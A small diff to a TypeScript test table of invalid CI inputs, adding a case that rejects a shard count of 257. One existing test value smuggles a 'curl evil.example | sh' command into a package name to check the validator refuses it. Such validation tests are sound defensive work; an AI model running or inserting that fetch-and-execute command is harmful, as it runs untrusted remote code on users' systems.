@@ -120,6 +120,7 @@ const CI_CASES: readonly (readonly [InputCode, string, unknown])[] = [
   ['ci-node-version-invalid', 'nodeVersion', { nodeVersion: 'newest' }],
   ['ci-renovate-invalid', 'renovate', { renovate: 'yes' }],
   ['ci-package-spec-invalid', 'packageSpec', { packageSpec: 'generator-platform; curl evil.example | sh' }],
+  ['ci-shards-invalid', 'shards', { shards: 257 }],
 ];
 
 describe('the CoreDNS answers', () => {
